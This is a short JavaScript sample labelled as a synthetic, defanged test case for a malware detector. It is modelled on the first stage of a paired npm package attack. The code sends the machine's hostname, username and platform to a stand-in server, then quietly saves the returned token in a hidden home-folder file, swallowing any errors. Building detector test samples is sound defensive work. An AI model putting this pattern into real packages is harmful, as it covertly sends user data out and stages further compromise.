// SYNTHETIC, DEFANGED malwi validation sample - modelled on the paired-package npm campaign attributed to Lazarus (2023); never run.
// Step one (the first package of the pair): register this machine and store the token the
// server hands back in a hidden file in the home folder.
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');

const file = path.join(os.homedir(), '.gtm');
const body = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, p: os.platform() });
const req = https.request({ hostname: 'npmjscdn.example.invalid', path: '/api/token', method: 'POST', headers: { 'Content-Type': 'application/json' } }, (res) => {
  let d = '';
  res.on('data', (c) => (d += c));
  res.on('end', () => {
    try {
      fs.writeFileSync(file, JSON.parse(d).token);
    } catch (e) {}
  });
});
req.on('error', () => {});
req.end(body);
